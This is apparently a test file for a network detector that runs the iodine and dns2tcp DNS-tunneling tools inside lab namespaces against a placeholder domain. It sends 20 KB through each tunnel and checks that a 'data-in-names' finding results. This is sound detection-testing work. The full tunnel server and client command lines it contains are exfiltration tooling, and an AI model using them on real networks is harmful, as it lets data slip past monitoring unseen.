"""Programs that carry connections in names do so on a wire, and its mirror port is read: the tunnel is found,
by whatever type of record.
"""

from __future__ import annotations

import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from random import Random

import pytest

from otmon.detect.finding import Finding
from otmon.engine import replay
from otmon.findings.judge import judge
from otmon.lab.live.namespace import asked_inside, serving
from tests.mirror import CLIENT, SERVER, Mirror, found, mirror
from tests.namespaces import inside, missing

pytestmark = pytest.mark.skipif(bool(missing()), reason=missing())

DOMAIN = "t.example.org"
RULE = "data-in-names"
TUNNEL = "10.99.0.1"
SIZE = 20_000
"""Bytes that are carried out."""
PARTS = 10


@pytest.fixture(name="wire")
def wire_fixture() -> Iterator[Mirror]:
    with mirror() as one:
        yield one


def needs(*names: str) -> pytest.MarkDecorator:
    absent = found(*names)
    return pytest.mark.skipif(bool(absent), reason=f"not installed: {', '.join(absent)}")


def told(path: Path) -> Finding:
    (one,) = [finding for finding in judge(replay([str(path)]).ledger, None) if finding.rule == RULE]
    assert (one.link.client, one.link.server, one.link.protocol) == (CLIENT, SERVER, "dns")
    return one


def carried(one: Finding) -> int:
    return int(dict(one.why[0].params)["carried"])


@contextmanager
def running(wire: Mirror, *command: str) -> Iterator[subprocess.Popen[bytes]]:
    """A client that goes on until the end of the test."""
    process = subprocess.Popen(
        ["ip", "netns", "exec", wire.client, *command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield process
    finally:
        process.terminate()
        process.wait(10)


def until_connected(wire: Mirror, address: str, port: int) -> socket.socket:
    limit = time.monotonic() + 30
    while True:
        with inside(wire.client):
            try:
                return socket.create_connection((address, port), 1)
            except OSError:
                assert time.monotonic() < limit, "the tunnel does not stand"
        time.sleep(0.1)


def swallow(listener: socket.socket, got: list[int], whole: threading.Event) -> None:
    while True:
        try:
            near, _ = listener.accept()
        except OSError:
            return
        with near:
            while part := near.recv(65_536):
                got.append(len(part))
                if sum(got) >= SIZE:
                    whole.set()


def carry_out(wire: Mirror, listening: tuple[str, int], reached: tuple[str, int]) -> None:
    """Send bytes through the tunnel to a listener at its other end, and wait until they are all there."""
    got: list[int] = []
    random = Random(1)
    whole = threading.Event()
    with inside(wire.server):
        listener = socket.create_server(listening)
    with listener:
        threading.Thread(target=swallow, args=(listener, got, whole), daemon=True).start()
        with until_connected(wire, *reached) as out:
            for _ in range(PARTS):
                # In some seconds, as a sensor counts so many questions of each.
                out.sendall(random.randbytes(SIZE // PARTS))
                time.sleep(0.3)
            assert whole.wait(60), sum(got)


@needs("iodine", "iodined")
@pytest.mark.skipif(not Path("/dev/net/tun").exists(), reason="needs /dev/net/tun")
@pytest.mark.parametrize("kind", ["NULL", "CNAME", "A"])
def test_iodine(kind: str, wire: Mirror, tmp_path: Path) -> None:
    wire.serve("iodined", "-f", "-c", "-P", "x", "-l", SERVER, f"{TUNNEL}/27", DOMAIN, port=0)
    with (
        wire.captured(tmp_path / "x.pcapng"),
        running(wire, "iodine", "-f", "-r", "-P", "x", "-m", "300", "-T", kind, SERVER, DOMAIN),
    ):
        until_there(wire)
        carry_out(wire, (TUNNEL, 4000), (TUNNEL, 4000))
    one = told(tmp_path / "x.pcapng")
    assert dict(one.what.params) == {"client": CLIENT, "domain": "example.org"}
    assert carried(one) > SIZE / 4


def until_there(wire: Mirror) -> None:
    """Wait until the server has the address of its end of the tunnel."""
    limit = time.monotonic() + 20
    while 53 not in asked_inside(wire.server, lambda: serving("udp")):
        assert time.monotonic() < limit, "iodined does not listen"
        time.sleep(0.05)


@needs("dns2tcpd", "dns2tcpc")
@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp(kind: str, wire: Mirror, tmp_path: Path) -> None:
    config = tmp_path / "dns2tcpd.conf"
    config.write_text(
        f"listen = {SERVER}\nport = 53\nuser = nobody\nchroot = {tmp_path}\ndomain = {DOMAIN}\n"
        "resources = drop:127.0.0.1:4000\n"
    )
    wire.serve("dns2tcpd", "-F", "-f", str(config), port=0)
    until_there(wire)
    with (
        wire.captured(tmp_path / "x.pcapng"),
        running(wire, "dns2tcpc", "-z", DOMAIN, "-r", "drop", "-T", kind, "-l", "4001", SERVER),
    ):
        carry_out(wire, ("127.0.0.1", 4000), ("127.0.0.1", 4001))
    one = told(tmp_path / "x.pcapng")
    assert dict(one.what.params)["domain"] == "example.org"
    assert carried(one) > SIZE / 4
